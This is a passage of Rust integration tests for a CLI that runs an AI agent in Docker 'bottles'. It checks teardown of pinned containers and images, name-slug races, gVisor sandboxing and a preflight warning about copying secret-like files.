        .current_dir(&proj)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert_eq!(
        stdout,
        ".env.local .git .gitignore main.rs \nowner 1000\nfirst\nno target\n\
         0\nhttps://github.com/o/r\n",
        "the copied .git/config holds no token: {stderr}"
    );
    assert!(
        // Named in the preflight, before the launch.
        stderr.contains("copies files that look like secrets into the bottle: .env.local"),
        "{stderr}"
    );
    assert_eq!(leftovers(&run), Vec::<String>::new());
    // The bottle's own images only (they carry its slug): a product image
    // this start had to rebuild carries the run label too, and stays.
    let images = Command::new("docker")
        .args([
            "images",
            "-q",
            "--filter",
            &format!("label=io.claude-bottle.test={run}"),
            "--filter",
            "label=io.claude-bottle.slug",
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&images.stdout).trim(),
        "",
        "the derived image is removed: {stderr}"
    );
}

/// Names the user pins (`CLAUDE_BOTTLE_CONTAINER`,
/// `CLAUDE_BOTTLE_DERIVED_IMAGE`) are the bottle's too: teardown found
/// objects only under the names the CLI makes, so a pinned agent kept
/// running and a pinned workspace image stayed.
#[test]
fn pinned_names_are_torn_down() {
    if !super::images_ready("pinned_names_are_torn_down") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-pin");
    let run = h.run.clone();
    let proj = h.dir.path().join("proj");
    std::fs::create_dir(&proj).unwrap();
    std::fs::write(proj.join("main.rs"), "fn main() {}\n").unwrap();
    let container = format!("pinned-agent-{run}");
    // No tag: the engine lists it as `…:latest`, and teardown must too.
    let image = format!("pinned-image-{run}");
    let out = h
        .cli(&[
            "start",
            &h.agent,
            "--yes",
            "--copy-cwd",
            "--prompt",
            "ls /workspace; hostname >/dev/null",
        ])
        .env("CLAUDE_BOTTLE_CONTAINER", &container)
        .env("CLAUDE_BOTTLE_DERIVED_IMAGE", &image)
        .current_dir(&proj)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert_eq!(stdout, "main.rs\n", "{stderr}");
    assert!(
        stderr.contains(&format!("`{image}:latest`")),
        "the pinned tag was built: {stderr}"
    );
    assert_eq!(leftovers(&run), Vec::<String>::new(), "{stderr}");
    let inspect = |what: &str| {
        Command::new("docker")
            .args([what, "inspect", "--format", "{{.Id}}"])
            .arg(if what == "container" {
                &container
            } else {
                &image
            })
            .output()
            .unwrap()
            .status
            .success()
    };
    assert!(
        !inspect("container"),
        "the pinned container is gone: {stderr}"
    );
    assert!(!inspect("image"), "the pinned image is gone: {stderr}");
}

/// Two starts of one agent at the same moment both pick the same free slug
/// from the engine; the state folder is the claim, and the one that loses
/// it takes the next name instead of failing (`cli.md`, "Slugs and
/// names"). First made certain: a live run (this test) holds the slug's
/// folder; then two real starts race.
#[test]
fn a_start_that_loses_its_slug_takes_the_next() {
    if !super::images_ready("a_start_that_loses_its_slug_takes_the_next") {
        return;
    }
    let _images = super::image_lock();
    let h = Home::new("probe-race");
    let state = h.bottle_home().join("state").join(&h.agent);
    std::fs::create_dir_all(&state).unwrap();
    let holder = bottle_docker::owner::current();
    std::fs::write(state.join("owner"), &holder).unwrap();

    let out = h
        .cli(&["start", &h.agent, "--yes", "--prompt", "echo ran"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "ran\n");
    assert!(
        err.contains(&format!("took the name `{}`", h.agent))
            && err.contains(&format!("bottle `{}-2` is up", h.agent)),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(state.join("owner")).unwrap(),
        holder,
        "the holder's folder is left alone"
    );
    std::fs::remove_dir_all(&state).unwrap();

    let spawn = || {
        h.cli(&["start", &h.agent, "--yes", "--prompt", "sleep 2; echo ran"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (a, b) = (spawn(), spawn());
    let mut slugs = Vec::new();
    for child in [a, b] {
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr).to_string();
        assert!(out.status.success(), "{err}");
        assert_eq!(String::from_utf8_lossy(&out.stdout), "ran\n", "{err}");
        slugs.push(slug_of(&err));
    }
    slugs.sort();
    assert_eq!(slugs, [h.agent.clone(), format!("{}-2", h.agent)]);
    assert_eq!(leftovers(&h.run), Vec::<String>::new());
}

/// docker.md: `runtime: runsc` when the engine has gVisor. Skipped, with
/// the reason, on an engine without it (testing.md), also under
/// `CLAUDE_BOTTLE_REQUIRE_DOCKER=1`: CI's engine has no gVisor. Where it
/// has, the agent's kernel must be gVisor's (its `dmesg` says so).
#[test]
fn a_runsc_bottle_runs_under_gvisor() {
    if !super::images_ready("a_runsc_bottle_runs_under_gvisor") {
        return;
    }
    let runtimes = Command::new("docker")
        .args(["info", "--format", "{{json .Runtimes}}"])
        .output()
        .unwrap();
    if !String::from_utf8_lossy(&runtimes.stdout).contains("runsc") {
        skipped!(
            "SKIPPED a_runsc_bottle_runs_under_gvisor: runsc is not registered with the engine"
        );
        return;
    }
    let _images = super::image_lock();
    let h = Home::with_env("gvisor", "runtime: runsc\n");
    let (stdout, stderr) = start_prompt(&h, "dmesg 2>/dev/null | head -3", 0);
    assert!(stdout.contains("gVisor"), "{stdout}\n{stderr}");
    assert!(stderr.contains("runtime    runsc"), "{stderr}");
    assert_eq!(leftovers(&h.run), Vec::<String>::new());
}
